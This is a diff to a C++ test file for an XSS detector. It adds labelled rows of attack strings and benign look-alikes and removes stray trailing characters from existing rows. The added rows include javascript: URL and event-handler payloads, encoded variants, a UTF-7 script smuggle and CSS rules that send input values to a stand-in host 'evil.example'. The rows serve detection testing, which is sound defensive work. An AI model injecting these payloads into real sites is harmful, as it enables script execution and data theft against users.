@@ -36,7 +36,7 @@ TEST(DetectXssTest, FlagsCrsRegressionAttacks) {
       {"<xss onbeforehellfreezes=alerw(1)>", true},
       {"www.github.com<script><img><iframe>", true},
       {R"v(/get/"onmouseover='prompt(document.cookie)'")v", true},
-      {"/get/index.php/<svg/onload=alert()v", true},
+      {"/get/index.php/<svg/onload=alert()", true},
   };
   expect_rows(kRows);
 }
@@ -75,6 +75,10 @@ TEST(DetectXssTest, KeepsProseAboutTheScriptTag) {
   constexpr Row kRows[] = {
       {"The <script> tag is used to embed JavaScript.", false},
       {"Put your <script> in the head", false},
+      {"Put the <script> before </body>", false},
+      {"Usage: python <script> [args]", false},
+      {"<script>", true},
+      {"<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>", true},
       {"<script> alert(1) </script>", true},
       {"<script>\nvar x = 1\n</script>", true},
       {"<script></script>", true},
@@ -95,6 +99,8 @@ TEST(DetectXssTest, FlagsKnownEventHandlersWithAValue) {
       {"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", true},
       {"<img src=\"x\"onerror=\"alert(1)\">", true},
       {"<x onclick=alert(1)>click me", true},
+      {"<img src=x onerror=alert('XSS test')>", true},
+      {"<img src=x onerror=`alert(1)`>", true},
   };
   expect_rows(kRows);
 }
@@ -115,6 +121,9 @@ TEST(DetectXssTest, IgnoresHandlerValuesThatCannotParseAsScript) {
   constexpr Row kRows[] = {
       {"<x onclick=\"O'Brien\">", false},
       {"<x onfoo=\"the good parts (2008)\">", false},
+      {"<button onClick={() => setCount(count + 1)}>+</button>", false},
+      {"<a title=\"onclick=foo\">x</a>", false},
+      {"<x onclick=\"this is it\">", false},
       {"<x onclick=\"alert(1) // the good parts\">", true},
       {"<x onclick=\"alert('the good parts')\">", true},
       {"<x onclick=\"top[/al ert/.source](1)\">", true},
@@ -133,6 +142,11 @@ TEST(DetectXssTest, FlagsUnknownOnAttributesOnlyWhenTheValueReadsLikeScript) {
       {"<x onion=\"big red\">", false},
       {"<x onboarding>", false},
       {"<x onward=\"two words (really)\">", false},
+      {"    one = Eq(rhs, 1)", false},
+      {"onedict = dict(zip(keys, values))", false},
+      {"once = kwargs.get('once')", false},
+      {"def walk(top, onerror=None, followlinks=False):", false},
+      {"const onThisPage = document.createElement('div');", false},
   };
   expect_rows(kRows);
 }
@@ -141,7 +155,12 @@ TEST(DetectXssTest, FlagsScriptUrlsInUrlAttributesAfterEntityDecoding) {
   constexpr Row kRows[] = {
       {"<a href=\"javascript:alert(1)\">x</a>", true},
       {"<a href=\"JaVaScRiPt:alert(1)\">x</a>", true},
-      {"<a href=\"  javascript:void(0)\">x</a>", true},
+      {"<a href=\"  javascript:alert(1)\">x</a>", true},
+      {"<a href=\"javascript:%61%6c%65%72%74%28%31%29\">x</a>", true},
+      {"<a href=\"javascript://%0aalert(1)\">x</a>", true},
+      {"<IMG SRC=\"livescript:[code]\">", true},
+      {"<a href=\"javascript:void(0)\" class=\"menu\">Menu</a>", false},
+      {"<a href=\"javascript:;\">x</a>", false},
       {"<a href=\"jav\tascript:alert(1)\">x</a>", true},
       {"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", true},
       {"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">", true},
@@ -151,10 +170,15 @@ TEST(DetectXssTest, FlagsScriptUrlsInUrlAttributesAfterEntityDecoding) {
       {"<a href=\"java&NewLine;script:alert(1)\">", true},
       {"<a href=\" &#14;  javascript:alert(1)\">", true},
       {"<IMG SRC='vbscript:msgbox(\"XSS\")'>", true},
+      {"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", true},
       {"<form action=\"javascript:alert(1)\"><input type=submit>", true},
       {"<button formaction=javascript:alert(1)>x</button>", true},
       {"<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>", true},
       {"<table background=\"javascript:alert(1)\">", true},
+      {"<link rel=stylesheet href=\"javascript:alert(1)\">", true},
+      {"<a href=\"\\x0Bjavascript:javascript:alert(1)\">x</a>", true},
+      {"<a href=\"/login?next=javascript:alert(document.cookie)\">x</a>", true},
+      {"<a href=\"https://example.com/javascript/tutorial\">x</a>", false},
       {"<svg><set attributeName=href to=javascript:alert(1)>", true},
       {"<svg><animate attributeName=href values=\"x;javascript:alert(1)\">", true},
   };
@@ -189,25 +213,30 @@ TEST(DetectXssTest, FlagsStyleThatRunsScript) {
       {"<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>", true},
       {"<style>li {list-style-image: url(\"javascript:alert('XSS')\");}</style><ul><li>x", true},
       {"<style>body { color: red; background: url(/bg.png) }</style>", false},
+      {"<style>input[value^=a]{background:url(//evil.example/a)}</style>", true},
+      {"<style>*{background:url('https://evil.example/?p')}</style>", true},
       {"<p style=\"color: red; font-weight: bold\">hi</p>", false},
   };
   expect_rows(kRows);
 }
 
-TEST(DetectXssTest, FlagsFramingTagsOnlyWithAttributes) {
+TEST(DetectXssTest, FlagsFramingTagsOnlyWithSomethingToLoad) {
   constexpr Row kRows[] = {
       {"<iframe src=\"https://evil.example\"></iframe>", true},
+      {"<portal src=//evil.example/></portal>", true},
       {"<iframe src=javascript:alert(1)>", true},
       {"<object data=\"x.swf\"></object>", true},
       {"<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", true},
       {"<applet code=\"Evil.class\">", true},
       {"<base href=\"https://evil.example/\">", true},
-      {"<link rel=stylesheet href=\"javascript:alert(1)\">", true},
+      {"<link rel=import href=\"https://evil.example/x.html\">", true},
       {"<iframe src=http://evil.example/scriptlet.html <", true},
       {"List<Object> items = new ArrayList<>();", false},
       {"Map<String, Object> m;", false},
-      {"Optional<Link> next()v", false},
+      {"Optional<Link> next()", false},
       {"<iframe></iframe>", false},
+      {"return \"<Frame filename=%r lineno=%r>\" % (self.filename, self.lineno)", false},
+      {"<link rel=\"stylesheet\" href=\"https://cdn.example.com/site.css\">", false},
   };
   expect_rows(kRows);
 }
@@ -219,6 +248,7 @@ TEST(DetectXssTest, FlagsMetaRefreshAndScriptContent) {
       {"<meta content=\"0;url=javascript:alert(1)\" name=x>", true},
       {"<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">", true},
       {"<meta charset=\"utf-8\">", false},
+      {"<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-", true},
       {"<meta name=\"description\" content=\"Big data: the future\">", false},
   };
   expect_rows(kRows);
@@ -228,6 +258,7 @@ TEST(DetectXssTest, FlagsMarkupInSrcdocAndScriptEntities) {
   constexpr Row kRows[] = {
       {"<x srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", true},
       {"<BR SIZE=\"&{alert('XSS')}\">", true},
+      {"my $list = &{$prop}($caseless);", false},
       {"<x srcdoc=\"just text\">", false},
   };
   expect_rows(kRows);
@@ -236,21 +267,21 @@ TEST(DetectXssTest, FlagsMarkupInSrcdocAndScriptEntities) {
 TEST(DetectXssTest, FlagsValuesThatBreakOutOfAnAttribute) {
   constexpr Row kRows[] = {
       {"\" onmouseover='alert(1)'", true},       {"\" autofocus onfocus=alert(1) x=\"", true},
-      {"' onmouseover=alert(1) '", true},        {"x onmouseover=alert(1)v", true},
+      {"' onmouseover=alert(1) '", true},        {"x onmouseover=alert(1)", true},
       {"\"><img src=x onerror=alert(1)>", true}, {"'><svg/onload=alert(1)>", true},
-      {"x><script>alert(1)</script>", true},     {"\" style=\"x:expression(alert(1))v", true},
+      {"x><script>alert(1)</script>", true},     {"\" style=\"x:expression(alert(1))", true},
   };
   expect_rows(kRows);
 }
 
 TEST(DetectXssTest, FlagsValuesThatAreScriptUrls) {
   constexpr Row kRows[] = {
-      {"javascript:alert(1)v", true},
-      {"  JavaScript:alert(document.cookie)v", true},
-      {"javascript://%0aalert(1)v", true},
+      {"javascript:alert(1)", true},
+      {"  JavaScript:alert(document.cookie)", true},
+      {"javascript://%0aalert(1)", true},
       {"javascript:confirm`1`", true},
-      {"jav&#x09;ascript:alert(1)v", true},
-      {"vbscript:msgbox(\"XSS\")v", true},
+      {"jav&#x09;ascript:alert(1)", true},
+      {"vbscript:msgbox(\"XSS\")", true},
       {"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", true},
       {"data:image/svg+xml,<svg onload=alert(1)>", true},
   };
@@ -260,13 +291,13 @@ TEST(DetectXssTest, FlagsValuesThatAreScriptUrls) {
 TEST(DetectXssTest, KeepsProseThatMentionsSchemes) {
   constexpr Row kRows[] = {
       {"javascript: the good parts", false},
-      {"JavaScript: The Good Parts by Douglas Crockford (2008)v", false},
+      {"JavaScript: The Good Parts by Douglas Crockford (2008)", false},
       {"I'm reading javascript: the good parts", false},
       {"data: 5 rows", false},
-      {"data: 5 rows (approx.)v", false},
+      {"data: 5 rows (approx.)", false},
       {"vbscript: how to loop", false},
       {"mailto:someone@example.com", false},
-      {"https://example.com/javascript/tutorial?topic=alert(1)v", false},
+      {"https://example.com/javascript/tutorial?topic=alert(1)", false},
   };
   expect_rows(kRows);
 }
@@ -319,18 +350,18 @@ TEST(DetectXssTest, LeavesForeignContentWhereHtmlDoes) {
 
 TEST(DetectXssTest, ReadsLessThanBeforeANonLetterAsText) {
   constexpr Row kRows[] = {
-      {"a < b > c", false},        {"<3", false},
-      {"x <= y", false},           {"< script>", false},
-      {"if (a<b && c>d)v", false}, {"if (a < b && c > d) { }", false},
+      {"a < b > c", false},       {"<3", false},
+      {"x <= y", false},          {"< script>", false},
+      {"if (a<b && c>d)", false}, {"if (a < b && c > d) { }", false},
   };
   expect_rows(kRows);
 }
 
 TEST(DetectXssTest, JudgesAnUnclosedTagAtTheEndOfTheInput) {
   constexpr Row kRows[] = {
-      {"<svg/onload=alert()v", true},
-      {"<img src=x onerror=alert(1)v", true},
-      {"<a href=\"javascript:alert(1)v", true},
+      {"<svg/onload=alert()", true},
+      {"<img src=x onerror=alert(1)", true},
+      {"<a href=\"javascript:alert(1)", true},
       {"<img src=x onerror=&#97;lert(1", true},
       {"<script", true},
       {"<b", false},
@@ -380,7 +411,7 @@ TEST(DetectXssTest, KeepsProseNamesAndQuotes) {
       {"\"onboarding\" tips", false},
       {"It's a <b>test</b>, isn't it?", false},
       {"I <3 you & you <3 me", false},
-      {"Don't forget: meeting at 10:30 (room 4)v", false},
+      {"Don't forget: meeting at 10:30 (room 4)", false},
       {"top secret", false},
   };
   expect_rows(kRows);
